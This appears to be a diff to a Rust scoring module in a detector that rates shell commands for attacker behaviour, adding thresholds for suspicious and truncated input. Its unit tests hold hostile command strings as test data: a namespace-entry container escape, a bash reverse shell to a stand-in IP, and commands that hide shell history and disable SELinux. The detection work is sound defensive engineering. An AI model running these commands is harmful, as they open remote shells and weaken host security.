@@ -13,6 +13,8 @@ const GATE: &str = "opinion.gate";
 const FIRST: &str = "opinion.first";
 const BIAS: &str = "opinion.bias";
 const LATE: &str = "opinion.late";
+const CUT: &str = "opinion.floor.cut";
+const SUSPICIOUS: &str = "opinion.floor.suspicious";
 const ONE: &str = "opinion.floor.one";
 const MORE: &str = "opinion.floor.more";
 
@@ -37,9 +39,13 @@ pub(super) struct Opinion {
     /// What the first opinion's logit counts beside this one's, and what is added to both.
     first: f32,
     both: f32,
-    /// Stands in where there was no time, and is the least for what was not followed to its end.
+    /// Stands in where there was no time.
     late: f32,
-    /// The least for what does one thing that only attackers do, and for what does several.
+    /// The least for what was not followed to its end.
+    cut: f32,
+    /// The least for what does something that is seldom harmless, for what does one thing that only attackers do, and for what does
+    /// something else besides.
+    suspicious: f32,
     one: f32,
     more: f32,
 }
@@ -55,6 +61,7 @@ impl Opinion {
             number.ok_or_else(|| format!("its metadata's {key} is no number: {text:?}"))
         };
         let late = number(LATE)?;
+        let floor = |key: &str, usual| if metadata(key).is_some() { number(key) } else { Ok(usual) };
         let inputs = names.split_whitespace().map(input).collect::<Result<Vec<_>, _>>()?;
         let hidden = number(HIDDEN)?;
         let hidden = if (1.0..=1024.0).contains(&hidden) {
@@ -86,8 +93,10 @@ impl Opinion {
             first: number(FIRST)?,
             both: number(BIAS)?,
             late,
-            one: if metadata(ONE).is_some() { number(ONE)? } else { late },
-            more: if metadata(MORE).is_some() { number(MORE)? } else { late },
+            cut: floor(CUT, late)?,
+            suspicious: floor(SUSPICIOUS, late)?,
+            one: floor(ONE, late)?,
+            more: floor(MORE, late)?,
         }))
     }
 
@@ -144,14 +153,17 @@ impl Opinion {
         let weights = behaviour.evidence.iter().map(|evidence| rests(evidence.fact)).collect();
         // What was not followed to its end must not look better than if it had not been followed at all. Nor must what does something
         // that only attackers do: whatever careful people write around it, anybody can write.
-        let is_attack = |fact: &&Fact| fact.leaning() == Leaning::Attack && behaviour.has(**fact);
-        match Fact::ALL.iter().filter(is_attack).take(2).count() {
-            0 => {}
-            1 => whole = whole.max(self.one),
-            _ => whole = whole.max(self.more),
+        let steps =
+            || behaviour.evidence.iter().map(|evidence| evidence.fact).filter(|fact| fact.is_of_attacks());
+        let is_attack = steps().any(|fact| fact.leaning() == Leaning::Attack);
+        match (is_attack, steps().take(2).count()) {
+            (_, 0) => {}
+            (false, _) => whole = whole.max(self.suspicious),
+            (true, 1) => whole = whole.max(self.one),
+            (true, _) => whole = whole.max(self.more),
         }
         if behaviour.has(Fact::Cut) {
-            whole = whole.max(self.late);
+            whole = whole.max(self.cut);
         }
         (whole, weights)
     }
@@ -226,10 +238,13 @@ mod tests {
 
     #[test]
     fn who_does_two_things_that_only_attackers_do_has_a_floor_of_his_own() {
-        let opinion = read(&[(ONE, "0.5"), (MORE, "2")]).unwrap().unwrap();
+        let floors = [(CUT, "0.75"), (SUSPICIOUS, "0.375"), (ONE, "0.5"), (MORE, "2")];
+        let opinion = read(&floors).unwrap().unwrap();
         let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
         assert!((weighed(b"nsenter -t 1 -m sh") - 0.5).abs() < 1e-6);
         assert!((weighed(b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1") - 2.0).abs() < 1e-6);
+        assert!((weighed(b"unset HISTFILE; setenforce 0") - 0.375).abs() < 1e-6);
+        assert!((weighed(b"unset HISTFILE; nsenter -t 1 -m sh") - 2.0).abs() < 1e-6);
         // One that was cut, too, is no better than one that was not followed.
         let long = [&b"nsenter -t 1 -m sh\n"[..], &b"id\n".repeat(behaviour::TEXT_MAX)].concat();
         assert!((weighed(&long) - 0.75).abs() < 1e-6);
